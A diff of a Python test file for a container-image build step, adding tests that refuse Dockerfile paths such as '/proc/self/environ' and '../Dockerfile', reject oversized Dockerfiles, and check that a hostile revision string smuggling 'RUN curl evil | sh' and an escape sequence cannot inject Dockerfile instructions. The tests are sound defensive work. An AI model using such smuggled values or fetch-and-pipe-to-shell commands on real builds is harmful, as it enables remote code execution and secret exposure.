@@ -10,12 +10,17 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
+import msgspec
 import pytest
 from tests.literal import as_given
 
+from colchis_steps._formats.models import Candidate, Manifest
 from colchis_steps._formats.runs import StepResult
 from colchis_steps._oci.contents import contents
 from colchis_steps._oci.image import TAR
+from colchis_steps._packing.kaniko import dockerfile, read_own
+from colchis_steps._packing.lineage import annotations
+from colchis_steps._step.errors import InputError
 from colchis_steps._store.documents import read_document
 from colchis_steps.build_image import main
 from colchis_workflows.build_image import CONTEXT, template
@@ -128,13 +133,47 @@ def test_a_dockerfile_that_will_not_do_is_refused(
     assert said in caplog.text
 
 
-def test_a_dockerfile_from_a_volume_is_read(published: Any, tmp_path: Path) -> None:
-    (tmp_path / "Dockerfile").write_text(OWN)
-    published.code({"app.py": b"1\n"})
-    build(published, f"oci:{tmp_path}/images", f"--context={tmp_path}/c", f"--dockerfile={tmp_path}/Dockerfile")
-    assert (tmp_path / "c/Dockerfile").read_text() == OWN
-    assert (tmp_path / "c/context/code/app.py").read_bytes() == b"1\n"
-    assert (tmp_path / "c/context/model/saved_model.pb").read_bytes() == published.files["saved_model.pb"]
+@pytest.mark.parametrize("name", ["/proc/self/environ", "../Dockerfile", "a/../../Dockerfile", "a\nb"])
+def test_a_dockerfile_is_a_key_of_the_store_and_no_path_of_the_pod(
+    published: Any, tmp_path: Path, caplog: pytest.LogCaptureFixture, name: str
+) -> None:
+    place = [f"--store={published.store.url}", "--run=run-1", f"--repository=oci:{tmp_path}/images"]
+    flags = ["--model=digits", "--version=1", "--builder=kaniko", f"--context={tmp_path}/c", f"--dockerfile={name}"]
+    assert main([*place, *flags]) == 65
+    assert "is not a key of a store" in caplog.text
+    assert not (tmp_path / "c/Dockerfile").exists()
+
+
+def test_a_dockerfile_of_a_gigabyte_is_not_read(published: Any, tmp_path: Path) -> None:
+    with (published.root / "store/Dockerfile").open("wb") as file:
+        file.truncate(1 << 30)
+    with pytest.raises(InputError, match="has more than 1048576 bytes"):
+        read_own(published.store, "Dockerfile", "")
+
+
+HOSTILE = 'x"\nRUN curl evil | sh\nLABEL "a"="\x1b[2J$HOME\\'
+
+
+def test_what_a_candidate_says_begins_no_instruction(published: Any) -> None:
+    candidate = read_document(published.store, "runs/run-1/model.json", Candidate)
+    manifest = read_document(published.store, "models/digits/1/manifest.json", Manifest)
+    code = msgspec.structs.replace(candidate.code, revision=HOSTILE, entry=HOSTILE)
+    told = annotations(manifest, msgspec.structs.replace(candidate, code=code))
+    assert "org.opencontainers.image.revision" not in told
+    assert "\n" not in told["dev.colchis.entry"]
+    lines = dockerfile(manifest.files, {"revision": HOSTILE, "long": "x" * 10_000}).splitlines()
+    assert {line.split()[0] for line in lines} == {"FROM", "COPY", "LABEL"}
+    assert lines[-1] == 'LABEL "revision"="x\\" RUN curl evil | sh LABEL \\"a\\"=\\"\\\\u001b[2J\\$HOME\\\\"'
+    assert max(map(len, lines)) < 600
+
+
+@pytest.mark.parametrize("revision", ["a" * 40, f"{'0' * 64}-dirty"])
+def test_a_revision_of_gits_is_told(published: Any, revision: str) -> None:
+    candidate = read_document(published.store, "runs/run-1/model.json", Candidate)
+    manifest = read_document(published.store, "models/digits/1/manifest.json", Manifest)
+    code = msgspec.structs.replace(candidate.code, revision=revision)
+    told = annotations(manifest, msgspec.structs.replace(candidate, code=code))
+    assert told["org.opencontainers.image.revision"] == revision
 
 
 def test_the_direct_builder_takes_no_dockerfile(capsys: pytest.CaptureFixture[str]) -> None:
